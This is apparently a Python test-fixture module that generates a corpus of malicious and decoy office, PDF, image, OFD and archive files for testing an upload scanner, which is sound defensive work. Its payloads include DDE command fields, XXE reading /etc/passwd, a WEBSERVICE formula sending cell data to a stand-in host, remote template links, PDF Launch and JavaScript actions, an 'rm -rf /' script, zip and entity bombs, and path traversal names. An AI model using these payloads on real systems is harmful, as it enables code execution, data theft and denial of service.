"""Files that mean harm, or only look like it, made by code: (name → bytes). Their verdicts stand in tests/data/evil_files.csv."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

from tests.floor import zip_quine

CANARY = "CANARY-7319"
_DOC_RELS = "word/_rels/document.xml.rels"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1016


@cache
def word() -> bytes:
    held, made = io.BytesIO(), docx.Document()
    made.add_paragraph("云岭县青石乡")
    made.core_properties.author = CANARY
    made.save(held)
    return held.getvalue()


@cache
def sheet() -> bytes:
    held, made = io.BytesIO(), openpyxl.Workbook()
    made.active["A1"] = "青石乡"
    made.properties.creator = CANARY
    made.save(held)
    return held.getvalue()


def pdf(change: Any = None, pages: int = 1, **save: Any) -> bytes:
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
    if change:
        change(made)
    held = io.BytesIO()
    made.save(held, **save)
    return held.getvalue()


def png(size: tuple[int, int] = (40, 30), **save: Any) -> bytes:
    held = io.BytesIO()
    Image.new("RGB", size, "teal").save(held, "PNG", **save)
    return held.getvalue()


def jpeg(size: tuple[int, int] = (40, 30), **save: Any) -> bytes:
    held = io.BytesIO()
    Image.new("RGB", size, "teal").save(held, "JPEG", **save)
    return held.getvalue()


def bomb_png(width: int, height: int) -> bytes:
    """A PNG that declares more pixels than it has bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 999)) + chunk(b"IEND", b"")
    )


def changed(package: bytes, parts: dict[str, bytes] | None = None, replace: dict[str, tuple[str, str]] | None = None,
            types: str = "") -> bytes:  # fmt: skip
    """A package with parts added and text replaced in others."""
    held = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as old, zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as new:
        for each in old.namelist():
            data = old.read(each)
            if replace and each in replace:
                before, after = replace[each]
                assert before.encode() in data, each
                data = data.replace(before.encode(), after.encode(), 1)
            if types and each == "[Content_Types].xml":
                data = data.replace(b"</Types>", types.encode() + b"</Types>")
            new.writestr(each, data)
        for name, data in (parts or {}).items():
            new.writestr(name, data)
    return held.getvalue()


def typed(part: str, kind: str) -> str:
    return f'<Override PartName="/{part}" ContentType="{kind}"/>'


def link(kind: str, target: str, external: bool = True) -> tuple[str, str]:
    mode = ' TargetMode="External"' if external else ""
    return (
        "</Relationships>",
        f'<Relationship Id="rId99" Type="{_REL}/{kind}" Target="{target}"{mode}/></Relationships>',
    )


def related(kind: str, target: str, external: bool = True) -> bytes:
    return changed(word(), replace={_DOC_RELS: link(kind, target, external)})


def field(code: str) -> bytes:
    run = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r></w:p><w:sectPr'
    )
    return changed(word(), replace={"word/document.xml": ("<w:sectPr", run)})


def formula(text: str) -> bytes:
    held, made = io.BytesIO(), openpyxl.Workbook()
    made.active["A1"] = text
    made.save(held)
    return held.getvalue()


def zipped(files: dict[str, bytes], **info: Any) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in files.items():
            part = zipfile.ZipInfo(name)
            part.compress_type = zipfile.ZIP_DEFLATED
            for key, value in info.items():
                setattr(part, key, value)
            made.writestr(part, data)
    return held.getvalue()


def shared_bytes() -> bytes:
    """A zip whose entries all point at one body (the flat bomb)."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("word/document.xml", b"0" * 100_000)
        first = made.infolist()[0]
        for number in range(50):
            other = zipfile.ZipInfo(f"word/{number}.xml")
            for each in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(other, each, getattr(first, each))
            made.filelist.append(other)
            made.NameToInfo[other.filename] = other
    return held.getvalue()


def ofd(extra: dict[str, bytes] | None = None) -> bytes:
    root = f'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"><ofd:DocBody><ofd:DocInfo><ofd:Author>{CANARY}</ofd:Author></ofd:DocInfo></ofd:DocBody></ofd:OFD>'
    return zipped({"OFD.xml": root.encode(), "Doc_0/Document.xml": b"<Document/>"} | (extra or {}))


def action(kind: str, **more: Any) -> Any:
    def change(made: Any) -> None:
        made.Root.OpenAction = Dictionary(S=Name(f"/{kind}"), **more)

    return change


def annotation(**entries: Any) -> Any:
    def change(made: Any) -> None:
        page = made.pages[0]
        page.Annots = Array([made.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries))])

    return change


def root_entry(key: str, value: Any) -> Any:
    return lambda made: made.Root.__setitem__(key, value)


def attached(made: Any) -> None:
    made.attachments["x.exe"] = b"MZ"


def many_pages(number: int) -> bytes:
    """A tree that counts more pages than anybody prints."""
    return pdf().replace(b"/Count 1 ", b"/Count %d " % number).replace(b"/Count 1/", b"/Count %d/" % number)


EMBEDDED = "application/vnd.openxmlformats-officedocument.oleObject"
MACRO = "application/vnd.ms-office.vbaProject"
DTD = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EXE = b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0"
LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 60


def corpus() -> dict[str, bytes]:
    """Every file by the name it is handed in under."""
    return plain() | programs() | words() | sheets() | pdfs() | pictures() | others() | old() | archives()


def plain() -> dict[str, bytes]:
    return {"平常.docx": word(), "平常.xlsx": sheet(), "平常.pdf": pdf(), "平常.png": png(), "平常.jpg": jpeg(), "平常.JPEG": jpeg(),
            "平常.ofd": ofd(), "空.pdf": b"", "空.docx": b"", "没有扩展名": pdf()}  # fmt: skip


def programs() -> dict[str, bytes]:
    found = {}
    for ending in ("pdf", "docx", "xlsx", "png", "jpg", "ofd"):
        found[f"程序.{ending}"] = EXE
        found[f"网页.{ending}"] = HTML
        found[f"快捷方式.{ending}"] = LNK
    for ending in ("exe", "lnk", "scr", "js", "vbs", "hta", "bat", "ps1", "msi", "jar", "com", "html", "svg", "docm", "xlsm", "xlsb",
                   "pptx", "rtf", "7z", "rar", "iso", "eml", "chm"):  # fmt: skip
        found[f"后缀.{ending}"] = EXE
    return found | {"矢量图.png": SVG, "矢量图.jpg": SVG, "文字.pdf": "正文".encode(), "脚本.pdf": b"#!/bin/sh\nrm -rf /",
                    "空字节.pdf\0.exe": pdf(), "反转\u202efdp.exe": EXE, "双扩展.pdf.exe": EXE, "..\\..\\路径.pdf": pdf(),
                    "../../路径.docx": word(), "ELF.pdf": b"\x7fELF\x02\x01\x01" + b"\0" * 60}  # fmt: skip


def words() -> dict[str, bytes]:
    vba = changed(word(), {"word/vbaProject.bin": OLE}, types=typed("word/vbaProject.bin", MACRO))
    macro = changed(word(), replace={"[Content_Types].xml": (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml")})  # fmt: skip
    ole = changed(
        word(), {"word/embeddings/oleObject1.bin": OLE}, types=typed("word/embeddings/oleObject1.bin", EMBEDDED)
    )
    control = changed(
        word(),
        {"word/activeX/activeX1.xml": b"<x/>"},
        types=typed("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
    )
    return {
        "宏改名.docx": vba, "启用宏.docx": macro, "内嵌对象.docx": ole, "控件.docx": control,
        "内嵌表格.docx": changed(word(), {"word/embeddings/Book1.xlsx": sheet()}),
        "未声明部件.docx": changed(word(), {"word/other.dat": b"x"}), "可执行部件.docx": changed(word(), {"word/run.exe": EXE}),
        "伪装部件.docx": changed(word(), {"word/media/x.png.vbs": b"x"}),
        "外部模板.docx": related("attachedTemplate", "http://198.51.100.7/t.dotm"),
        "共享模板.docx": related("attachedTemplate", "\\\\198.51.100.7\\s\\t.dotm"),
        "文件模板.docx": related("attachedTemplate", "file://198.51.100.7/s/t.dotm"),
        "本机模板.docx": related("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm"),
        "外部图片.docx": related("image", "http://198.51.100.7/p.png"), "外部对象.docx": related("oleObject", "http://198.51.100.7/o"),
        "外部框架.docx": related("frame", "http://198.51.100.7/f.html"), "子文档.docx": related("subDocument", "http://198.51.100.7/s.docx"),
        "嵌入片段.docx": related("aFChunk", "/word/a.htm", external=False), "外部媒体.docx": related("video", "http://198.51.100.7/v.mp4"),
        "普通链接.docx": related("hyperlink", "https://www.example.org/"), "网络文件夹链接.docx": related("hyperlink", "\\\\198.51.100.7\\s"),
        "脚本链接.docx": related("hyperlink", "javascript:alert(1)"), "协议链接.docx": related("hyperlink", "ms-msdt:/id"),
        "伪内部链接.docx": related("image", "http://198.51.100.7/p.png", external=False),
        "DDE域.docx": field('DDE cmd "/c calc"'), "自动DDE域.docx": field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
        "引用图片域.docx": field('INCLUDEPICTURE "http://198.51.100.7/p.png"'), "引用文字域.docx": field('INCLUDETEXT "http://198.51.100.7/t"'),
        "页码域.docx": field("PAGE"),
        "拆开的DDE域.docx": field("DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd"),
        "实体炸弹.docx": changed(word(), {"word/header9.xml": f'<?xml version="1.0"?>{DTD}<x>&b;</x>'.encode()},
                              types=typed("word/header9.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml")),
        "外部实体.docx": changed(word(), replace={"word/document.xml": ("<w:document", f"{XXE}<w:document")}),
        "UTF16实体.docx": changed(word(), {"word/header9.xml": f'<?xml version="1.0" encoding="UTF-16"?>{XXE}<x>&a;</x>'.encode("utf-16")},
                                types=typed("word/header9.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml")),
        "坏XML.docx": changed(word(), {"word/header9.xml": b"<a><b></a>"}),
        "截断.docx": word()[:-300], "前面夹带.docx": EXE + word(), "后面夹带.docx": word() + EXE + b"x" * 300,
        "网页加文档.docx": HTML + word(), "展开过大.docx": changed(word(), {"word/media/a.png": b"\0" * 120_000_000}),
        "共用内容.docx": shared_bytes(), "路径穿越.docx": changed(word(), {"../../etc/cron.d/x.xml": b"<x/>"}),
        "绝对路径.docx": changed(word(), {"/etc/x.xml": b"<x/>"}), "反斜杠路径.docx": changed(word(), {"word\\x.xml": b"<x/>"}),
        "旧格式改名.docx": OLE, "加密文档.docx": OLE + "EncryptedPackage".encode("utf-16-le"), "压缩包改名.docx": zipped({"a.txt": b"x"}),
        "表格改名.docx": sheet(),
    }  # fmt: skip


def sheets() -> dict[str, bytes]:
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    return {
        "宏表.xlsx": changed(sheet(), {"xl/macrosheets/sheet1.xml": b"<x/>"}, types=typed("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")),
        "宏.xlsx": changed(sheet(), {"xl/vbaProject.bin": OLE}, types=typed("xl/vbaProject.bin", MACRO)),
        "外部链接.xlsx": changed(sheet(), {"xl/externalLinks/externalLink1.xml": b"<x/>"}, types=typed("xl/externalLinks/externalLink1.xml", kind)),
        "数据连接.xlsx": changed(sheet(), {"xl/connections.xml": b"<x/>"}, types=typed("xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")),
        "查询表.xlsx": changed(sheet(), {"xl/queryTables/q1.xml": b"<x/>"}, types=typed("xl/queryTables/q1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml")),
        "内嵌对象.xlsx": changed(sheet(), {"xl/embeddings/oleObject1.bin": OLE}), "控件.xlsx": changed(sheet(), {"xl/ctrlProps/c1.xml": b"<x/>"}),
        "打印设置.xlsx": changed(sheet(), {"xl/printerSettings/printerSettings1.bin": b"x"}),
        "DDE公式.xlsx": formula("=cmd|'/C calc'!A0"), "取网页公式.xlsx": formula('=WEBSERVICE("http://198.51.100.7/?"&A2)'),
        "实时数据公式.xlsx": formula('=RTD("x",,"y")'), "他簿公式.xlsx": formula("=[1]Sheet1!A1"),
        "登记公式.xlsx": formula('=REGISTER.ID("kernel32","WinExec")'), "网络文件夹公式.xlsx": formula('=HYPERLINK("\\\\198.51.100.7\\s","看")'),
        "求和公式.xlsx": formula("=SUM(A2:A9)"), "网址公式.xlsx": formula('=HYPERLINK("https://www.example.org/","看")'),
        "最远单元格.xlsx": changed(sheet(), replace={"xl/worksheets/sheet1.xml": ("</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')}),
        "实体炸弹.xlsx": changed(sheet(), replace={"xl/worksheets/sheet1.xml": ("<worksheet", f"{DTD}<worksheet")}),
        "截断.xlsx": sheet()[:500], "文档改名.xlsx": word(), "旧表改名.xlsx": OLE,
    }  # fmt: skip


def pdfs() -> dict[str, bytes]:
    script = String("app.alert(1)")
    return {
        "打开脚本.pdf": pdf(action("JavaScript", JS=script)), "启动程序.pdf": pdf(action("Launch", F=String("cmd.exe"))),
        "提交表单.pdf": pdf(action("SubmitForm", F=String("http://198.51.100.7/"))), "导入数据.pdf": pdf(action("ImportData", F=String("x.fdf"))),
        "打开外部文件.pdf": pdf(action("GoToR", F=String("\\\\198.51.100.7\\x.pdf"))), "打开内嵌文件.pdf": pdf(action("GoToE", D=String("x"))),
        "普通链接.pdf": pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.example.org/")))),
        "链接里的脚本.pdf": pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.JavaScript, JS=script))),
        "下一个动作.pdf": pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://a"), Next=Dictionary(S=Name.Launch, F=String("x"))))),
        "附件批注.pdf": pdf(annotation(Subtype=Name.FileAttachment)), "多媒体.pdf": pdf(annotation(Subtype=Name.RichMedia)),
        "三维.pdf": pdf(annotation(Subtype=Name("/3D"))), "内嵌文件.pdf": pdf(attached),
        "名字树脚本.pdf": pdf(root_entry("/Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), Dictionary(S=Name.JavaScript, JS=script)]))))),
        "动态表单.pdf": pdf(root_entry("/AcroForm", Dictionary(XFA=String("<xdp/>")))),
        "附加动作.pdf": pdf(root_entry("/AA", Dictionary(WC=Dictionary(S=Name.JavaScript, JS=script)))),
        "藏在对象流.pdf": pdf(action("JavaScript", JS=script), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "打开密码.pdf": pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "权限密码.pdf": pdf(encryption=pikepdf.Encryption(owner="a", user="")),
        "百万页.pdf": many_pages(1_000_000), "截断.pdf": pdf()[:120], "只有头.pdf": b"%PDF-1.7\n", "没有页.pdf": pdf(pages=0),
        "压缩包在后.pdf": pdf() + zipped({"a.exe": EXE}), "前有网页.pdf": HTML + pdf(), "前有空白.pdf": b"\n\n" + pdf(),
        "编码名.pdf": pdf(action("JavaScript", JS=script)).replace(b"/JavaScript", b"/Java#53cript"),
    }  # fmt: skip


def pictures() -> dict[str, bytes]:
    noted = PngImagePlugin.PngInfo()
    noted.add_text("Author", CANARY)
    exif = Image.Exif()
    exif[0x013B], exif[0x010E] = CANARY, CANARY
    exif.get_ifd(0x8825)[1] = "N"
    return {
        "带作者.png": png(pnginfo=noted), "带位置.jpg": jpeg(exif=exif), "带注释.jpg": jpeg(comment=CANARY.encode()),
        "像素炸弹.png": bomb_png(60_000, 60_000), "像素略超.png": bomb_png(8000, 8000), "声明零.png": bomb_png(0, 10),
        "截断.png": png()[:-30], "截断.jpg": jpeg()[:300], "压缩包在后.png": png() + zipped({"a.exe": EXE}),
        "压缩包在后.jpg": jpeg() + zipped({"a.exe": EXE}), "程序在后.png": png() + EXE, "程序在后.jpg": jpeg() + EXE,
        "网页在后.jpg": jpeg() + HTML, "脚本在注释.jpg": jpeg(comment=b"<?php system(1);"), "文档在后.png": png() + pdf(),
        "图片改名.pdf": png(), "互换.png": jpeg(), "互换.jpg": png(), "动图.png": b"GIF89a" + b"\0" * 40, "新格式.jpg": b"RIFF\0\0\0\0WEBPVP8 ",
    }  # fmt: skip


def others() -> dict[str, bytes]:
    return {
        "带附件.ofd": ofd({"Doc_0/Attachs/Attachments.xml": b"<Attachments><Attachment/></Attachments>"}),
        "实体.ofd": ofd({"Doc_0/Pages/Page_0/Content.xml": f"{XXE}<Page>&a;</Page>".encode()}), "截断.ofd": ofd()[:90],
        "没有根.ofd": zipped({"Doc_0/Document.xml": b"<x/>"}), "录音.mp3": b"ID3\x04" + b"\0" * 60, "录像.mp4": b"\0\0\0\x18ftypisom" + b"\0" * 60,
    }  # fmt: skip


OLD = Path(__file__).parents[1] / "data" / "old"
RTF = rb"{\rtf1\ansi{\field{\*\fldinst INCLUDEPICTURE http://198.51.100.7/p.png}}}"


def old() -> dict[str, bytes]:
    """Files of the formats before 2007, which WPS also writes as .wps and .et; the two real ones lie beside the table."""
    doc, xls = (OLD / "plain.doc").read_bytes(), (OLD / "plain.xls").read_bytes()
    return {
        "旧版.doc": doc, "旧版.wps": doc, "旧版.xls": xls, "空壳.doc": OLE, "空壳.et": OLE, "截断.doc": doc[:3000],
        "程序.doc": EXE, "网页.xls": HTML, "富文本.doc": RTF, "新格式.doc": word(), "新格式.xls": sheet(), "程序.wps": EXE,
    }  # fmt: skip


def archives() -> dict[str, bytes]:
    good = zipped({"甲.pdf": pdf(), "夹/乙.png": png()})
    return {
        "平常.zip": good, "自己套自己.zip": zip_quine.quine(), "套娃.zip": zipped({"x.zip": good}), "穿越.zip": zipped({"../../x.pdf": b"x"}),
        "链接.zip": zipped({"x.pdf": b"/etc/passwd"}, external_attr=0o120777 << 16), "炸弹.zip": zipped({"x.pdf": b"\0" * 60_000_000}),
        "没有文件.zip": zipped({}), "共用内容.zip": shared_bytes(), "截断.zip": good[:80], "里有程序.zip": zipped({"甲.pdf": pdf(), "乙.pdf": EXE}),
        "里有宏.zip": zipped({"甲.docx": words()["宏改名.docx"]}), "程序.zip": EXE, "程序在前.zip": EXE + good, "文件过多.zip": zipped({f"{number}.pdf": pdf() for number in range(60)}),
        "改名.zip": pdf(), "重名.zip": zipped({"甲.pdf": pdf(), "夹/甲.pdf": EXE}),
    }  # fmt: skip
